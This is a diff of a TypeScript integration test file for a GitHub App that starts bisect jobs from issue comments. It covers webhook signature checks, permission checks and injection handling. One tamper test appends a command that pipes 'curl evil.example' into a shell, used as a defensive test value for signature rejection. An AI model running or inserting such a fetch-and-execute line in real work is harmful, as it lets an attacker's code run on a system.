@@ -13,6 +13,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { signatureMatches } from "../../app/src/server.js";
+import type { JobRow } from "../../app/src/store/store.js";
 import { INSTALLATION_ID, OWNER, REPO, REPOSITORY_ID, startHarness, WEBHOOK_SECRET, type Harness } from "../support/app-harness.js";
 import type { Role } from "../support/github-double/index.js";
 import { assertWebhookPayload, deliver, issueCommentPayload, sign } from "../support/webhooks.js";
@@ -56,22 +57,24 @@ afterAll(async () => {
 
 /** Jobs started from an issue, counted in the database itself. */
 async function jobCount(issue: number): Promise<number> {
-  const { rows } = await h.db.client.query<{ n: number }>("select count(*)::int as n from public.bisect_jobs where repository_id = $1 and issue_number = $2", [REPOSITORY_ID, issue]);
+  const { rows } = await h.db.client.query<{ n: number }>("select count(*)::int as n from public.bisect_jobs where repository_id = $1 and issue_number = $2", [
+    REPOSITORY_ID,
+    issue,
+  ]);
   return rows[0]!.n;
 }
 
-/** Rows any table holds for a delivery or comment: jobs, replies, and the command inbox where there is one. */
+/** Rows any table holds for a delivery or comment: jobs, and tasks (commands, replies, announcements). */
 async function storedRows(deliveryId: string, commentId: number): Promise<number> {
-  const tables = ["bisect_jobs", "bisect_replies", "bisect_commands"];
+  const tables = ["bisect_jobs", "bisect_tasks"];
   let n = 0;
   for (const table of tables) {
     const { rows: present } = await h.db.client.query<{ ok: boolean }>("select to_regclass($1) is not null as ok", [`public.${table}`]);
     if (!present[0]!.ok) continue;
-    const { rows } = await h.db.client.query<{ n: number }>(`select count(*)::int as n from public.${table} where delivery_id = $1 or (repository_id = $2 and comment_id = $3)`, [
-      deliveryId,
-      REPOSITORY_ID,
-      commentId,
-    ]);
+    const { rows } = await h.db.client.query<{ n: number }>(
+      `select count(*)::int as n from public.${table} where delivery_id = $1 or (repository_id = $2 and comment_id = $3)`,
+      [deliveryId, REPOSITORY_ID, commentId],
+    );
     n += rows[0]!.n;
   }
   return n;
@@ -81,9 +84,9 @@ async function storedRows(deliveryId: string, commentId: number): Promise<number
 async function expectNothingWritten(issue: number, deliveryId: string, commentId: number, dispatchesBefore: number): Promise<void> {
   expect(await storedRows(deliveryId, commentId)).toBe(0);
   await h.settle();
-  expect(await h.store.latestJob(REPOSITORY_ID, issue)).toBeUndefined();
+  expect(await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue })).toBeUndefined();
   expect(await jobCount(issue)).toBe(0);
-  expect(await h.store.commentHandled(deliveryId, REPOSITORY_ID, commentId)).toBe(false);
+  expect(await h.store.call("commentHandled", { repositoryId: REPOSITORY_ID, commentId })).toBe(false);
   expect(await storedRows(deliveryId, commentId)).toBe(0);
   expect(replies(issue).filter((c) => c.id !== commentId)).toEqual([]);
   expect(h.double.reactions(FULL, commentId)).toEqual([]);
@@ -118,7 +121,7 @@ function outsideCode(markdown: string): string {
     let j = i;
     while (text[j] === "`") j++;
     let close = -1;
-    for (let k = j; k < text.length; ) {
+    for (let k = j; k < text.length;) {
       if (text[k] !== "`") {
         k++;
         continue;
@@ -146,7 +149,13 @@ function outsideCode(markdown: string): string {
 async function post(body: string, headers: Record<string, string>): Promise<number> {
   const response = await fetch(webhookUrl, {
     method: "POST",
-    headers: { "content-type": "application/json", "user-agent": "GitHub-Hookshot/bisect-test", "x-github-event": "issue_comment", "x-github-hook-id": "1", ...headers },
+    headers: {
+      "content-type": "application/json",
+      "user-agent": "GitHub-Hookshot/bisect-test",
+      "x-github-event": "issue_comment",
+      "x-github-hook-id": "1",
+      ...headers,
+    },
     body,
   });
   await response.text();
@@ -156,7 +165,16 @@ async function post(body: string, headers: Record<string, string>): Promise<numb
 /** A valid `/bisect` command payload from the maintainer, for a comment that exists on GitHub. */
 function commandPayload(issue: number, commentId: number, body = "/bisect v1.0..main -- npm test", login = "maintainer"): Record<string, unknown> {
   h.double.addComment(FULL, issue, { body, user: login, id: commentId });
-  return issueCommentPayload({ owner: OWNER, repo: REPO, repositoryId: REPOSITORY_ID, installationId: INSTALLATION_ID, issueNumber: issue, login, commentId, body });
+  return issueCommentPayload({
+    owner: OWNER,
+    repo: REPO,
+    repositoryId: REPOSITORY_ID,
+    installationId: INSTALLATION_ID,
+    issueNumber: issue,
+    login,
+    commentId,
+    body,
+  });
 }
 
 describe("webhook signatures", () => {
@@ -185,7 +203,10 @@ describe("webhook signatures", () => {
       "a body changed after it was signed",
       (body) => ({ body: body.replace("-- npm test", "-- npm test; curl evil.example | sh"), headers: { "x-hub-signature-256": sign(WEBHOOK_SECRET, body) } }),
     ],
-    ["only the legacy X-Hub-Signature (SHA-1, correctly signed)", (body) => ({ body, headers: { "x-hub-signature": `sha1=${createHmac("sha1", WEBHOOK_SECRET).update(body).digest("hex")}` } })],
+    [
+      "only the legacy X-Hub-Signature (SHA-1, correctly signed)",
+      (body) => ({ body, headers: { "x-hub-signature": `sha1=${createHmac("sha1", WEBHOOK_SECRET).update(body).digest("hex")}` } }),
+    ],
   ];
   it.each(cases)("a delivery with %s gets 401 and changes nothing", async (_name, tamper) => {
     const issue = freshIssue();
@@ -254,7 +275,7 @@ describe("who may start a bisect: the collaborator permission API decides", () =
   interface Seen {
     issue: number;
     jobs: number;
-    job: Awaited<ReturnType<Harness["store"]["latestJob"]>>;
+    job: JobRow | undefined;
     dispatches: { inputs: Record<string, string> }[];
     replies: string[];
     reactions: string[];
@@ -281,7 +302,7 @@ describe("who may start a bisect: the collaborator permission API decides", () =
     await h.settle();
     dispatchesDuringTheseComments = h.double.dispatches.length - dispatches;
     for (const { login, issue, commentId } of sent) {
-      const job = await h.store.latestJob(REPOSITORY_ID, issue);
+      const job = await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue });
       seen.set(login, {
         issue,
         jobs: await jobCount(issue),
@@ -321,18 +342,20 @@ describe("who may start a bisect: the collaborator permission API decides", () =
     const issue = freshIssue();
     await h.comment("/bisect v1.0..main -- npm test", { issueNumber: issue });
     await h.settle();
-    const job = await h.store.latestJob(REPOSITORY_ID, issue);
+    const job = await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue });
     expect(job).toMatchObject({ state: "dispatched" });
     h.double.setPermission(FULL, "drive-by", "read");
     const requests = h.double.requests.length;
     const dispatches = h.double.dispatches.length;
     for (const body of ["/bisect cancel", "/bisect retry"]) expect((await h.comment(body, { issueNumber: issue, login: "drive-by" })).status).toBe(200);
     await h.settle();
-    expect(await h.store.getJob(job!.id)).toMatchObject({ state: "dispatched" });
-    expect((await h.store.latestJob(REPOSITORY_ID, issue))!.id).toBe(job!.id);
+    expect(await h.store.call("getJob", { jobId: job!.id })).toMatchObject({ state: "dispatched" });
+    expect((await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue }))!.id).toBe(job!.id);
     expect(h.double.dispatches.length).toBe(dispatches);
     expect(h.double.requests.slice(requests).filter((r) => r.route.includes("/actions/"))).toEqual([]);
-    const refusals = replies(issue).slice(1).map((c) => c.body);
+    const refusals = replies(issue)
+      .slice(1)
+      .map((c) => c.body);
     expect(refusals).toHaveLength(2);
     for (const refusal of refusals) expect(refusal).toContain("write, maintain or admin access");
   });
@@ -430,7 +453,7 @@ describe("injection: the test command is the user's code, sent only as a workflo
   it.each(cases)("%s: dispatched on main with the text exactly, SHAs as refs, and nothing run here", async (name) => {
     const { issue, file, command } = sent.get(name)!;
     expect(await jobCount(issue)).toBe(1);
-    const job = await h.store.latestJob(REPOSITORY_ID, issue);
+    const job = await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue });
     expect(job).toMatchObject({ command, state: "dispatched" });
     const mine = h.double.dispatches.filter((d) => d.inputs.job_id === String(job!.id));
     expect(mine).toHaveLength(1);
@@ -460,7 +483,7 @@ describe("injection: the test command is the user's code, sent only as a workflo
     const dispatches = h.double.dispatches.length;
     expect((await h.comment(prefix + command, { issueNumber: issue })).status).toBe(200);
     await h.settle();
-    expect(await h.store.latestJob(REPOSITORY_ID, issue)).toBeUndefined();
+    expect(await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue })).toBeUndefined();
     expect(h.double.dispatches.length).toBe(dispatches);
     const mine = replies(issue).map((c) => c.body);
     expect(mine).toHaveLength(1);
@@ -492,8 +515,8 @@ describe("redeliveries on one instance", () => {
 
     await h.settle();
     expect(await jobCount(issue)).toBe(1);
-    const job = await h.store.latestJob(REPOSITORY_ID, issue);
-    expect(await h.store.commentHandled(randomUUID(), REPOSITORY_ID, commentId)).toBe(true);
+    const job = await h.store.call("latestJob", { repositoryId: REPOSITORY_ID, issueNumber: issue });
+    expect(await h.store.call("commentHandled", { repositoryId: REPOSITORY_ID, commentId })).toBe(true);
     const mine = h.double.dispatches.slice(dispatches);
     expect(mine).toHaveLength(1);
     expect(mine[0]!.inputs.job_id).toBe(String(job!.id));
